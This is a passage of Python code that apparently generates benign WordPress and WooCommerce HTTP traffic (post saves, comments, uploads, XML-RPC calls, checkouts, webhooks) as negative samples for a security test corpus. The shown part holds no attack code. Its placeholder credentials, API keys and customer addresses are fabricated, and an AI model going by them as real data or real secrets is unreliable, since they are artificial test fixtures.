    '<!-- wp:jetpack/tiled-gallery {"columnWidths":[["50.00000","50.00000"]],"ids":[%(id)d,%(id2)d],"linkTo":"media"} -->\n<div class="wp-block-jetpack-tiled-gallery aligncenter is-style-rectangular"><div class="tiled-gallery__gallery"><div class="tiled-gallery__row"><div class="tiled-gallery__col" style="flex-basis:50.00000%%"><figure class="tiled-gallery__item"><img srcset="https://i0.wp.com/%(host)s/wp-content/uploads/2024/02/a.jpg?strip=info&amp;w=600&amp;ssl=1 600w" alt="" data-id="%(id)d" src="https://i0.wp.com/%(host)s/wp-content/uploads/2024/02/a.jpg?ssl=1"/></figure></div></div></div></div>\n<!-- /wp:jetpack/tiled-gallery -->',
    '<!-- wp:yoast/faq-block {"questions":[{"id":"faq-question-1","question":["Can I pause my subscription?"],"answer":["Yes, in ",{"type":"strong","props":{"children":["My account → Subscriptions"]}}]}]} -->\n<div class="schema-faq wp-block-yoast-faq-block"><div class="schema-faq-section" id="faq-question-1"><strong class="schema-faq-question">Can I pause my subscription?</strong> <p class="schema-faq-answer">Yes, in <strong>My account → Subscriptions</strong></p> </div> </div>\n<!-- /wp:yoast/faq-block -->',
    '<!-- wp:embed {"url":"https://twitter.com/wordpress/status/1780000000000000000","type":"rich","providerNameSlug":"twitter","responsive":true} -->\n<figure class="wp-block-embed is-type-rich is-provider-twitter wp-block-embed-twitter"><div class="wp-block-embed__wrapper">\nhttps://twitter.com/wordpress/status/1780000000000000000\n</div></figure>\n<!-- /wp:embed -->',
]
TITLES = ["Spring menu 2024", "How we roast: a behind-the-scenes look", "Öffnungszeiten an Feiertagen", "Nuevas tapas de temporada",
          "Release notes: v3.2 \"Aurora\"", "10 tips for winter cycling (and 1 you'll hate)", "Q&A: Ask the cheesemonger",
          "抹茶の点て方", "Why we're closing on Mondays", "Black Friday: 30% off everything*", "Meet Kenji — our new barista",
          "Festa junina: programação completa", "Select your favourite blend — vote now!", "Update from the board, May 2024"]


def blocks(r, host, n=None):
    n = n or r.randint(3, 7)
    ids = {"id": r.randint(100, 9000), "id2": r.randint(100, 9000), "id3": r.randint(100, 9000), "host": host}
    return "\n\n".join(r.choice(BLOCKS) % ids for _ in range(n))


@benign_gen("gutenberg-save")
def g_gutenberg(g):
    for i in range(36):
        host = g.site()
        pid = g.r.randint(10, 6000)
        typ = "pages" if i % 4 == 3 else "posts"
        obj = {"id": pid, "content": blocks(g.r, host)}
        if i % 2 == 0:
            obj["title"] = g.r.choice(TITLES)
            obj["status"] = g.r.choice(["draft", "publish", "future", "pending"])
        if i % 3 == 0:
            obj["excerpt"] = "A short summary — with “quotes”, 50% more flavour & no additives."
            obj["meta"] = {"_yoast_wpseo_metadesc": "Fresh bread daily in Berlin-Kreuzberg. Order online & pick up.",
                           "footnotes": "", "_jetpack_newsletter_access": "everybody"}
        if i % 5 == 0:
            obj["categories"] = [g.r.randint(1, 30), g.r.randint(1, 30)]
            obj["tags"] = [g.r.randint(30, 99)]
            obj["featured_media"] = g.r.randint(100, 9000)
        if i % 7 == 0:
            obj["date"] = "2024-%02d-%02dT09:30:00" % (g.r.randint(1, 12), g.r.randint(1, 28))
            obj["slug"] = g.r.choice(SLUGS)
        route = "/wp/v2/%s/%d" % (typ, pid)
        if i % 6 == 5:
            route += "/autosaves"
            obj["parent"] = pid
        rest(g, "POST", host, route, obj, query=[("_locale", "user")], referer="/wp-admin/post.php?post=%d&action=edit" % pid)


@benign_gen("block-renderer")
def g_block_renderer(g):
    calls = [
        ("core/latest-comments", [("context", "edit"), ("attributes[commentsToShow]", 5), ("attributes[displayAvatar]", "true"), ("attributes[displayExcerpt]", "true")]),
        ("core/archives", [("context", "edit"), ("attributes[displayAsDropdown]", "false"), ("attributes[showPostCounts]", "true"), ("attributes[type]", "monthly")]),
        ("core/calendar", [("context", "edit"), ("attributes[month]", 5), ("attributes[year]", 2024)]),
        ("core/rss", [("context", "edit"), ("attributes[feedURL]", "https://wordpress.org/news/feed/"), ("attributes[itemsToShow]", 5), ("attributes[displayDate]", "true")]),
        ("core/tag-cloud", [("context", "edit"), ("attributes[taxonomy]", "post_tag"), ("attributes[showTagCounts]", "false"), ("attributes[smallestFontSize]", "8pt")]),
        ("woocommerce/product-categories", [("context", "edit"), ("attributes[hasCount]", "true"), ("attributes[isDropdown]", "false")]),
        ("core/shortcode", [("context", "edit"), ("attributes[text]", "[products limit=\"4\" columns=\"4\" orderby=\"popularity\"]")]),
        ("core/legacy-widget", [("context", "edit"), ("attributes[idBase]", "text"), ("attributes[instance][encoded]", "YToyOntzOjU6InRpdGxlIjtzOjU6IkhlbGxvIjtzOjQ6InRleHQiO3M6MTE6IldlbGNvbWUgdG8iO30="), ("attributes[instance][hash]", hexid(random.Random(1), 32))]),
    ]
    for i in range(10):
        host = g.site()
        name, q = calls[i % len(calls)]
        q = q + [("post_id", g.r.randint(10, 3000)), ("_locale", "user")]
        g.add("GET", host, "/wp-json/wp/v2/block-renderer/" + name, query=q, kind="rest", headers=[["X-WP-Nonce", nonce(g.r)]],
              cookie=logged_in(g.r, host), referer="/wp-admin/post.php?post=12&action=edit")


CLASSIC = [
    '<p>Dear customers,</p>\n<p>from <strong>1 June</strong> we open at 7:30 — <a href="https://%(host)s/hours/" target="_blank" rel="noopener">see all hours</a>.</p>\n<p><img class="alignright size-medium wp-image-812" src="https://%(host)s/wp-content/uploads/2024/05/door-300x200.jpg" alt="Our shop door" width="300" height="200" /></p>\n[gallery ids="812,813,815"]',
    '<h2>What\'s in the box?</h2>\n<ul>\n<li>1 × grinder</li>\n<li>2 × burrs (conical &amp; flat)</li>\n<li>USB-C cable</li>\n</ul>\n<table style="border-collapse: collapse; width: 100%%;" border="1"><tbody><tr><td style="width: 50%%;">Weight</td><td style="width: 50%%;">1.2 kg</td></tr></tbody></table>',
    '<p style="text-align: center;"><span style="color: #ff0000; font-family: \'Comic Sans MS\', cursive;">Sale ends Sunday!</span></p>\n<!--more-->\n<p>Use code <code>SPRING24</code> at checkout. Terms apply*.</p>\n<p><small>* Not valid with other offers; max. 1 per customer.</small></p>',
    '<blockquote><p>Wir haben für Sie geöffnet: Mo–Fr 9–18 Uhr, Sa 10–14 Uhr.</p></blockquote>\n<p>Fragen? Schreiben Sie uns über das <a href="/kontakt/">Kontaktformular</a> oder rufen Sie an: <a href="tel:+493012345678">030 123 456 78</a>.</p>\n[contact-form-7 id="12" title="Kontaktformular 1"]',
    '<p>[caption id="attachment_77" align="aligncenter" width="640"]<img class="size-large wp-image-77" src="https://%(host)s/wp-content/uploads/2023/11/team.jpg" alt="Team photo" width="640" height="427" /> The whole team, November 2023[/caption]</p>\n<p>[embed]https://vimeo.com/123456789[/embed]</p>',
    '<p>Ingredientes:</p>\n<ol>\n<li>2 huevos</li>\n<li>200 g de harina</li>\n<li>Una pizca de sal &amp; azúcar</li>\n</ol>\n<p>Mezclar todo y hornear a 180 °C durante 25–30 min. ¡Buen provecho!</p>\n<p>[video width="1280" height="720" mp4="https://%(host)s/wp-content/uploads/2024/01/receta.mp4"][/video]</p>',
    '<div class="alert alert-info" style="padding: 12px; border-left: 4px solid #2271b1;">Note: orders placed after 2 pm ship the next business day.</div>\n<p><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d2428.5!2d13.40!3d52.52!2m3!1f0!2f0!3f0" width="600" height="450" style="border:0;" allowfullscreen="" loading="lazy"></iframe></p>',
]


@benign_gen("classic-editor")
def g_classic(g):
    for i in range(24):
        host = g.site()
        pid = g.r.randint(10, 6000)
        content = g.r.choice(CLASSIC) % {"host": host}
        if i % 3 == 0:
            content += "\n\n" + g.r.choice(CLASSIC) % {"host": host}
        pairs = [("_wpnonce", nonce(g.r)), ("_wp_http_referer", "/wp-admin/post.php?post=%d&action=edit" % pid),
                 ("user_ID", g.r.randint(1, 9)), ("action", "editpost"), ("originalaction", "editpost"),
                 ("post_author", g.r.randint(1, 9)), ("post_type", g.r.choice(["post", "page", "product"])),
                 ("original_post_status", "draft"), ("referredby", "https://%s/wp-admin/edit.php" % host),
                 ("_wp_original_http_referer", "https://%s/wp-admin/edit.php" % host), ("post_ID", pid),
                 ("meta-box-order-nonce", nonce(g.r)), ("closedpostboxesnonce", nonce(g.r)),
                 ("post_title", g.r.choice(TITLES)), ("samplepermalinknonce", nonce(g.r)), ("content", content),
                 ("wp-preview", ""), ("hidden_post_status", "draft"), ("post_status", "draft"),
                 ("hidden_post_password", ""), ("hidden_post_visibility", "public"), ("visibility", "public"),
                 ("post_password", ""), ("mm", "%02d" % g.r.randint(1, 12)), ("jj", "%02d" % g.r.randint(1, 28)),
                 ("aa", "2024"), ("hh", "09"), ("mn", "30"), ("ss", "00"), ("publish", "Publish"),
                 ("post_category[]", "0"), ("post_category[]", str(g.r.randint(1, 20))),
                 ("tax_input[post_tag]", g.r.choice(["news, bread, sourdough", "café, événement", "sale,black friday"])),
                 ("newtag[post_tag]", ""), ("excerpt", ""), ("trackback_url", ""), ("metakeyinput", ""),
                 ("metavalue", ""), ("_ajax_nonce-add-meta", nonce(g.r)), ("advanced_view", "1"),
                 ("comment_status", "open"), ("ping_status", "open"), ("post_name", g.r.choice(SLUGS)),
                 ("post_author_override", g.r.randint(1, 9))]
        if i % 4 == 0:
            pairs += [("yoast_wpseo_focuskw", "sourdough bread"), ("yoast_wpseo_title", "%%title%% %%page%% %%sep%% %%sitename%%"),
                      ("yoast_wpseo_metadesc", "How we bake our sourdough – step by step, with photos."),
                      ("yoast_wpseo_linkdex", "63"), ("yoast_wpseo_content_score", "90"),
                      ("yoast_wpseo_is_cornerstone", "false"), ("yoast_wpseo_schema_article_type", "BlogPosting")]
        g.add("POST", host, "/wp-admin/post.php", body=form(pairs), origin=True,
              referer="/wp-admin/post.php?post=%d&action=edit" % pid, cookie=logged_in(g.r, host))


COMMENTS = [
    "Great recipe! I tried it yesterday and it came out perfect :) Thanks so much.",
    "Does this work with gluten-free flour? My daughter is coeliac & I'd love to bake it for her birthday.",
    "Tolles Rezept! Ich habe statt 500 g nur 450 g Mehl genommen – hat super geklappt. Grüße aus München",
    "Merci pour cet article, très intéressant ! J'ai une question : peut-on congeler la pâte ?",
    "¡Qué buena pinta! ¿Dónde puedo comprar la harina que usas? Saludos desde Sevilla.",
    "Adorei! Vou fazer no fim de semana. Vocês entregam em Curitiba?",
    "とても分かりやすい説明でした。ありがとうございます！次回は抹茶ラテの作り方もお願いします。",
    "Спасибо за статью! Очень полезно, особенно часть про температуру воды.",
    "Dzięki za przepis, wyszło rewelacyjnie. Polecam dodać trochę miodu.",
    "Harika bir yazı olmuş, elinize sağlık! Ekşi maya tarifini de paylaşır mısınız?",
    "شكراً على هذه الوصفة الرائعة، سأجربها في نهاية الأسبوع",
    "I disagree with point #3 -- in my experience the \"select\" grind setting on the Baratza is too coarse for espresso.",
    "Where can I find the <strong>PDF</strong> version? The link in <a href=\"https://example.com/guide.pdf\">this post</a> seems broken.",
    "Ordered on 3/5, still not here... order #10234. Can someone from support drop me an email?",
    "lol this is exactly what happened to me last winter 😂😂 the chain froze solid",
    "1) preheat 2) bake 30 min 3) rest 1 h -- or am I missing a step? Also: is 230°C > 250°C for the first 10 min?",
    "Hi admin, the contact form returns \"There was an error trying to send your message. Please try again later.\" FYI.",
    "Het recept is heerlijk, maar de oven temperatuur klopt niet helemaal voor een heteluchtoven.",
    "Grazie mille! Ho fatto il pane con il lievito madre e la crosta era perfetta.",
    "Bravo for the update &amp; the new site design. One small thing: the menu doesn't close on mobile (iOS 17, Safari).",
    "Can you drop the price of the 1kg bag? Or union with another shop for free shipping? Just an idea.",
    "@Kenji -- thanks, that fixed it. For anyone else: Settings > Permalinks > Save, then clear the cache.",
]
NAMES = ["Anna Müller", "Jean-Pierre", "María José", "O'Brien", "Kenji 田中", "Sofie B.", "Ivan Petrov", "Ana Luísa",
         "Tom & Jerry's Café", "Zoë", "Ahmed", "d'Artagnan", "Łukasz", "Dr. Smith (Ret.)"]


@benign_gen("comment")
def g_comment(g):
    for i in range(36):
        host = g.site()
        name = g.r.choice(NAMES)
        pid = g.r.randint(10, 5000)
        pairs = [("comment", COMMENTS[i % len(COMMENTS)]), ("author", name),
                 ("email", g.r.choice(["anna.mueller@example.de", "jp@example.fr", "kenji+blog@example.jp", "obrien@example.ie"])),
                 ("url", g.r.choice(["", "", "https://example-blog.net/", "http://www.mysite.example/about?ref=wp"])),
                 ("wp-comment-cookies-consent", "yes"), ("submit", "Post Comment"), ("comment_post_ID", pid),
                 ("comment_parent", g.r.choice([0, 0, g.r.randint(1, 900)]))]
        if i % 3 == 0:
            pairs.append(("akismet_comment_nonce", nonce(g.r)))
            pairs.append(("ak_js", str(1717000000000 + g.r.randint(0, 10 ** 9))))
            pairs.append(("ak_hp_textarea", ""))
        if i % 5 == 0:
            pairs.append(("_wp_unfiltered_html_comment", nonce(g.r)))
        ck = visitor(g.r, host)
        if i % 4 == 0:
            ch = cookiehash(host)
            ck = "comment_author_%s=%s; comment_author_email_%s=%s" % (ch, quote(name, safe=""), ch, quote("anna.mueller@example.de", safe=""))
        g.add("POST", host, "/wp-comments-post.php", body=form(pairs), origin=True,
              referer="/%s/" % g.r.choice(SLUGS), cookie=ck or None)


@benign_gen("media")
def g_media(g):
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40" width="120" height="40">'
           '<title>Larchwood logo</title><rect width="120" height="40" rx="6" fill="#2d6a4f"/><text x="60" y="26" font-family="Georgia, serif" '
           'font-size="16" text-anchor="middle" fill="#fff">Larchwood</text></svg>\n')
    csv = "date,visitors,orders\n2024-05-01,1203,48\n2024-05-02,1150,51\n"
    vtt = "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\nWelcome to episode 12!\n\n00:00:04.500 --> 00:00:08.000\nToday: roast profiles & <b>why</b> they matter.\n"
    pdf = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    files = [("larchwood-logo.svg", "image/svg+xml", svg), ("visitors-may.csv", "text/csv", csv),
             ("episode-12.vtt", "text/vtt", vtt), ("menu-2024.pdf", "application/pdf", pdf)]
    for i in range(14):
        host = g.site()
        k = i % 4
        if k in (0, 1):
            fn, ct, content = files[i % len(files)]
            body, ctype = multipart(g.r, [("name", fn), ("action", "upload-attachment"), ("_wpnonce", nonce(g.r)),
                                          ("post_id", g.r.randint(0, 3000)), ("async-upload", fn, ct, content)])
            g.add("POST", host, "/wp-admin/async-upload.php", body=body, ctype=ctype, kind="api", origin=True,
                  referer="/wp-admin/upload.php", cookie=logged_in(g.r, host))
        elif k == 2:
            rest(g, "POST", host, "/wp/v2/media/%d" % g.r.randint(100, 9000),
                 {"alt_text": "Croissants on a tray — fresh from the oven", "caption": "Photo: <em>Marta K.</em>",
                  "description": "Taken 2024-05-01, Canon R6 (f/2.8, 1/200 s)", "title": "croissants-tray"})
        else:
            pairs = [("id", g.r.randint(100, 9000)), ("nonce", nonce(g.r)), ("post_id", g.r.randint(0, 3000)),
                     ("changes[title]", "Team photo 2024"), ("changes[alt]", "The team in front of the shop (from left: Anna, Kenji, Sofie)"),
                     ("changes[caption]", "Left to right: Anna, Kenji & Sofie"), ("action", "save-attachment")]
            admin_ajax(g, host, pairs, referer="/wp-admin/upload.php?item=812")


# --------------------------------------------------------------------------
# benign: XML-RPC and WooCommerce
# --------------------------------------------------------------------------

def xmlrpc_call(method, params):
    """params: list of already-rendered <value> contents."""
    ps = "".join("<param><value>%s</value></param>" % p for p in params)
    return "<?xml version=\"1.0\"?>\n<methodCall><methodName>%s</methodName><params>%s</params></methodCall>\n" % (method, ps)


def xstr(s):
    return "<string>%s</string>" % s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xstruct(d):
    out = []
    for k, v in d.items():
        if isinstance(v, bool):
            val = "<boolean>%d</boolean>" % v
        elif isinstance(v, int):
            val = "<int>%d</int>" % v
        elif isinstance(v, list):
            val = "<array><data>%s</data></array>" % "".join("<value>%s</value>" % xstr(x) for x in v)
        else:
            val = xstr(v)
        out.append("<member><name>%s</name><value>%s</value></member>" % (k, val))
    return "<struct>%s</struct>" % "".join(out)


MOBILE = ["wp-android/24.3 (Android 14; en_US; samsung SM-S911B; 24.3-release)",
          "wp-iphone/24.4 (iOS 17.4.1; en_US; iPhone15,3)", "jetpack-android/24.3 (Android 13; de_DE; Pixel 7; 24.3-release)",
          "Windows Live Writer 1.0", "MarsEdit/5.0.6 (Mac OS X Version 14.4)"]


@benign_gen("xmlrpc")
def g_xmlrpc(g):
    for i in range(15):
        host = g.site()
        k = i % 5
        ua = g.r.choice(MOBILE)
        if k == 0:
            body = xmlrpc_call("wp.getUsersBlogs", [xstr(g.r.choice(USERS)), xstr("correct horse battery staple")])
        elif k == 1:
            content = g.r.choice(CLASSIC) % {"host": host}
            body = xmlrpc_call("metaWeblog.newPost", ["<int>1</int>", xstr(g.r.choice(USERS)), xstr("app-pass " + alnum(g.r, 24)),
                                                      xstruct({"title": g.r.choice(TITLES), "description": content,
                                                               "categories": ["News", "Café & Events"], "mt_keywords": "bread, news",
                                                               "post_status": "publish", "wp_slug": g.r.choice(SLUGS)}),
                                                      "<boolean>1</boolean>"])
        elif k == 2:
            src = "https://%s/%d/%02d/%s/" % (g.r.choice(["friendsblog.example.net", "foodcritic.example.org", "cyclingnews.example.com"]),
                                              2024, g.r.randint(1, 12), g.r.choice(SLUGS))
            body = xmlrpc_call("pingback.ping", [xstr(src), xstr("https://%s/2024/05/%s/" % (host, g.r.choice(SLUGS)))])
            ua = "WordPress/6.5.3; https://friendsblog.example.net"
        elif k == 3:
            body = xmlrpc_call("wp.getPosts", ["<int>1</int>", xstr(g.r.choice(USERS)), xstr("app-pass " + alnum(g.r, 24)),
                                               xstruct({"post_type": "post", "post_status": "draft", "number": 20, "orderby": "post_modified"})])
        else:
            body = xmlrpc_call(g.r.choice(["system.listMethods", "wp.getOptions", "wp.getProfile"]),
                               ["<int>1</int>", xstr("editor"), xstr("app-pass " + alnum(g.r, 24))])
        g.add("POST", host, "/xmlrpc.php", body=body, ctype="text/xml", kind="xml", ua=ua)


ADDRS = [
    dict(first="Anna", last="Müller", company="", a1="Oranienstraße 185", a2="Hinterhaus, 3. OG", city="Berlin", pc="10999", country="DE", state="", phone="+49 30 12345678"),
    dict(first="Seán", last="O'Brien", company="O'Brien & Sons Ltd.", a1="12 St. Stephen's Green", a2="Apt #4", city="Dublin 2", pc="D02 X285", country="IE", state="D", phone="+353 1 234 5678"),
    dict(first="María José", last="García-López", company="", a1="C/ Mayor 12, 3º-2ª", a2="", city="Madrid", pc="28013", country="ES", state="M", phone="612 345 678"),
    dict(first="João", last="da Silva", company="Padaria Pão & Cia", a1="Rua das Flores, 123 - apto 45", a2="Bloco B", city="São Paulo", pc="01310-100", country="BR", state="SP", phone="(11) 91234-5678"),
    dict(first="健二", last="田中", company="", a1="渋谷区神南1-2-3", a2="サンプルビル 5F", city="東京都", pc="150-0041", country="JP", state="JP13", phone="03-1234-5678"),
    dict(first="John", last="Smith", company="Smith, Jones and Co.", a1="1600 Amphitheatre Pkwy.", a2="Suite 100 (rear entrance)", city="Mountain View", pc="94043", country="US", state="CA", phone="(650) 555-0100"),
    dict(first="Zoë", last="Lefèvre", company="", a1="5, rue de l'Église", a2="Bâtiment C", city="Lyon", pc="69002", country="FR", state="", phone="+33 4 12 34 56 78"),
]


@benign_gen("woocommerce")
def g_woocommerce(g):
    shops = ["shop.lumen-coffee.de", "tienda.solymar.es", "minhaloja.com.br", "citycycling.co.uk", "www.fromagerie-alpine.fr"]
    for i in range(52):
        host = g.r.choice(shops)
        a = ADDRS[i % len(ADDRS)]
        ck = visitor(g.r, host, shop=True)
        k = i % 13
        if k == 0:
            g.add("GET", host, "/shop/", query=[("add-to-cart", g.r.randint(10, 900)), ("quantity", g.r.randint(1, 3))], cookie=ck, referer="/shop/")
        elif k == 1:
            g.add("POST", host, "/", query=[("wc-ajax", "add_to_cart")], kind="ajax", origin=True, cookie=ck,
                  body=form([("product_sku", "ETH-YIRG-250"), ("product_id", g.r.randint(10, 900)), ("quantity", 1)]), referer="/shop/")
        elif k == 2:
            g.add("POST", host, "/", query=[("wc-ajax", "get_refreshed_fragments")], kind="ajax", origin=True, cookie=ck,
                  body=form([("time", 1717000000000 + g.r.randint(0, 10 ** 8))]), referer="/product/ethiopia-yirgacheffe-250g/")
        elif k == 3:
            pairs = [("cart[%s][qty]" % hexid(g.r), g.r.randint(1, 4)), ("cart[%s][qty]" % hexid(g.r), 1),
                     ("coupon_code", g.r.choice(["", "SPRING24", "WELCOME-10"])), ("update_cart", "Update cart"),
                     ("woocommerce-cart-nonce", nonce(g.r)), ("_wp_http_referer", "/cart/")]
            g.add("POST", host, "/cart/", body=form(pairs), origin=True, cookie=ck, referer="/cart/")
        elif k in (4, 5):
            pairs = [("billing_first_name", a["first"]), ("billing_last_name", a["last"]), ("billing_company", a["company"]),
                     ("billing_country", a["country"]), ("billing_address_1", a["a1"]), ("billing_address_2", a["a2"]),
                     ("billing_postcode", a["pc"]), ("billing_city", a["city"]), ("billing_state", a["state"]),
                     ("billing_phone", a["phone"]), ("billing_email", "customer%d@example.com" % i),
                     ("account_password", "" if k == 4 else "Bäcker-2024!"), ("ship_to_different_address", "1" if k == 5 else ""),
                     ("shipping_first_name", a["first"]), ("shipping_last_name", a["last"]), ("shipping_address_1", a["a1"]),
                     ("shipping_city", a["city"]), ("shipping_postcode", a["pc"]), ("shipping_country", a["country"]),
                     ("order_comments", g.r.choice(["", "Please leave the parcel with the neighbour (Fr. Schulz, 2nd floor) if I'm out.",
                                                    "Gift — please don't include the invoice :)", "Entregar após 18h; interfone 45B",
                                                    "Ring twice. Dog is friendly but loud!"])),
                     ("shipping_method[0]", g.r.choice(["flat_rate:1", "free_shipping:3", "local_pickup:2"])),
                     ("payment_method", g.r.choice(["stripe", "ppcp-gateway", "bacs", "cod"])), ("terms", "on"), ("terms-field", "1"),
                     ("woocommerce-process-checkout-nonce", nonce(g.r)), ("_wp_http_referer", "/?wc-ajax=update_order_review")]
            g.add("POST", host, "/", query=[("wc-ajax", "checkout")], body=form(pairs), kind="ajax", origin=True, cookie=ck, referer="/checkout/")
        elif k == 6:
            post = form([("country", a["country"]), ("state", a["state"]), ("postcode", a["pc"]), ("city", a["city"]),
                         ("address", a["a1"]), ("address_2", a["a2"]), ("has_full_address", "true"),
                         ("payment_method", "stripe"), ("post_data", form([("billing_first_name", a["first"]), ("billing_last_name", a["last"]),
                                                                           ("billing_address_1", a["a1"]), ("terms-field", "1")]))])
            g.add("POST", host, "/", query=[("wc-ajax", "update_order_review")], body=post, kind="ajax", origin=True, cookie=ck, referer="/checkout/")
        elif k == 7:
            g.add("POST", host, "/wp-json/wc/store/v1/cart/add-item", body=js({"id": g.r.randint(10, 900), "quantity": 2,
                  "variation": [{"attribute": "pa_grind", "value": "espresso-fine"}, {"attribute": "Size", "value": "1 kg"}]}),
                  ctype="application/json", kind="rest", origin=True, cookie=ck, headers=[["Nonce", nonce(g.r)]], referer="/cart/")
        elif k == 8:
            obj = {"billing_address": {"first_name": a["first"], "last_name": a["last"], "company": a["company"], "address_1": a["a1"],
                                       "address_2": a["a2"], "city": a["city"], "state": a["state"], "postcode": a["pc"],
                                       "country": a["country"], "email": "buyer%d@example.org" % i, "phone": a["phone"]},
                   "shipping_address": {"first_name": a["first"], "last_name": a["last"], "address_1": a["a1"], "city": a["city"],
                                        "postcode": a["pc"], "country": a["country"]},
                   "customer_note": "Bitte klingeln – Name steht nicht am Briefkasten.", "create_account": False,
                   "payment_method": "stripe", "payment_data": [{"key": "stripe_source", "value": "src_" + alnum(g.r, 24)},
                                                                {"key": "paymentMethod", "value": "stripe"}],
                   "extensions": {"woocommerce/order-attribution": {"source_type": "utm", "utm_source": "newsletter", "referrer": "https://mail.google.com/"}}}
            g.add("POST", host, "/wp-json/wc/store/v1/checkout", query=[("_locale", "site")], body=js(obj), ctype="application/json",
                  kind="rest", origin=True, cookie=ck, headers=[["Nonce", nonce(g.r)]], referer="/checkout/")
        elif k == 9:
            evt = {"id": "evt_" + alnum(g.r, 24), "object": "event", "api_version": "2023-10-16", "created": 1717000000 + i,
                   "type": g.r.choice(["payment_intent.succeeded", "charge.refunded", "charge.dispute.created"]),
                   "data": {"object": {"id": "pi_" + alnum(g.r, 24), "object": "payment_intent", "amount": 3490, "currency": "eur",
                                       "metadata": {"customer_name": a["first"] + " " + a["last"], "order_id": str(10000 + i),
                                                    "site_url": "https://" + host},
                                       "description": "%s - Order %d" % (host, 10000 + i), "status": "succeeded"}},
                   "livemode": True, "pending_webhooks": 1, "request": {"id": None, "idempotency_key": hexid(g.r, 36)}}
            g.add("POST", host, "/", query=[("wc-api", "wc_stripe")], body=js(evt), ctype="application/json; charset=utf-8", kind="api",
                  ua="Stripe/1.0 (+https://stripe.com/docs/webhooks)",
                  headers=[["Stripe-Signature", "t=%d,v1=%s" % (1717000000 + i, hexid(g.r, 64))]])
        elif k == 10:
            obj = {"name": g.r.choice(["Ethiopia Yirgacheffe – 250 g", "Café Descafeinado (Swiss Water®)", "Gravel bike 'Nomad' 54cm"]),
                   "type": "simple", "regular_price": "12.90", "sale_price": "",
                   "description": "<p>Notes of <strong>jasmine</strong>, bergamot &amp; honey.</p><ul><li>Process: washed</li><li>Altitude: 1,900–2,200 m</li></ul>",
                   "short_description": "Light roast — ideal for pour-over.", "categories": [{"id": 17}], "images": [{"src": "https://%s/wp-content/uploads/2024/05/yirg.jpg" % host}],
                   "attributes": [{"name": "Grind", "options": ["Whole bean", "Espresso", "French press"], "visible": True, "variation": True}],
                   "meta_data": [{"key": "_origin_country", "value": "Ethiopia"}]}
            g.add("POST", host, "/wp-json/wc/v3/products", body=js(obj), ctype="application/json", kind="api",
                  ua="WooCommerce API Client-PHP/3.1.0",
                  headers=[["Authorization", "Basic Y2tfM2Q1ZjhhOTJiMmM0ZTdhMWI5ZDYwZjRlOGMyYTdiNWQzZjExYzQwZjpjc18xYjJjM2Q0ZTVmNmE3YjhjOWQwZTFmMmEzYjRjNWQ2ZTdmOGE5YjBj"]])
        elif k == 11:
            rows = ('ID,Type,SKU,Name,Published,"Is featured?","Short description",Description,"Regular price",Categories,Images\n'
                    ',simple,ETH-YIRG-250,"Ethiopia Yirgacheffe, 250 g",1,0,"Floral, light roast","<p>Notes of <strong>jasmine</strong> &amp; bergamot.</p>\\n<p>Roasted weekly.</p>",12.90,"Coffee > Single origin",https://%s/wp-content/uploads/2024/05/yirg.jpg\n'
                    ',variable,GRIND-01,"Hand grinder ""Classic""",1,1,"Burr grinder","Steel burrs; 30 clicks. Use for espresso -> French press.",,"Equipment",\n') % host
            body, ctype = multipart(g.r, [("import", "products-2024-05.csv", "text/csv", rows), ("file_url", ""),
                                          ("delimiter", ","), ("character_encoding", "UTF-8"), ("update_existing", "1"),
                                          ("_wpnonce", nonce(g.r)), ("_wp_http_referer", "/wp-admin/edit.php?post_type=product&page=product_importer"),
                                          ("save_step", "Continue")])
            g.add("POST", host, "/wp-admin/edit.php", query=[("post_type", "product"), ("page", "product_importer")], body=body,
                  ctype=ctype, origin=True, cookie=logged_in(g.r, host, "shopmanager"),
                  referer="/wp-admin/edit.php?post_type=product&page=product_importer")
        else:
            g.add("GET", host, "/wp-json/wc/v3/orders", query=[("status", "processing"), ("per_page", 50), ("after", "2024-05-01T00:00:00"),
                                                                 ("orderby", "date"), ("order", "desc"), ("consumer_key", "ck_" + hexid(g.r, 40)),
                                                                 ("consumer_secret", "cs_" + hexid(g.r, 40))],
                  kind="api", ua="Zapier")


# --------------------------------------------------------------------------
# benign: page builders, forms, SEO, custom fields
# --------------------------------------------------------------------------

def el_id(r):
    return hexid(r, 7)


def elementor_elements(r, host):
    css = r.choice([
        "selector .elementor-heading-title { color: #fff; text-shadow: 0 1px 2px rgba(0,0,0,.4); }\n@media (max-width: 767px) { selector { padding: 0 !important; } }",
        "selector:hover .elementor-button { transform: translateY(-2px); transition: all .2s ease-in-out; }",
        "selector::before { content: \"\\201C\"; font-size: 4em; position: absolute; left: -0.5em; top: -0.2em; opacity: .2; }",
        "selector { background: url(\"https://%s/wp-content/uploads/2024/02/texture.png\") repeat; } selector > .elementor-widget-container { border-radius: 12px; }" % host,
    ])
    widgets = [
        {"id": el_id(r), "elType": "widget", "widgetType": "heading", "settings": {"title": "Welcome to <span class=\"accent\">Lumen</span> Coffee", "header_size": "h1", "align": "center", "custom_css": css}, "elements": []},
        {"id": el_id(r), "elType": "widget", "widgetType": "text-editor", "settings": {"editor": "<p>Fresh roasts every <strong>Tuesday</strong> &amp; <em>Friday</em>. Free shipping over 35&nbsp;€.</p><p><a href=\"/shop/?orderby=popularity\">Shop bestsellers</a></p>", "typography_typography": "custom", "typography_font_family": "Inter", "typography_font_size": {"unit": "px", "size": 18, "sizes": []}}, "elements": []},
        {"id": el_id(r), "elType": "widget", "widgetType": "button", "settings": {"text": "Book a table", "link": {"url": "https://%s/reservations/?utm_source=home&utm_medium=hero" % host, "is_external": "on", "nofollow": "", "custom_attributes": "data-track|hero-cta"}, "button_type": "success", "_css_classes": "cta-main"}, "elements": []},
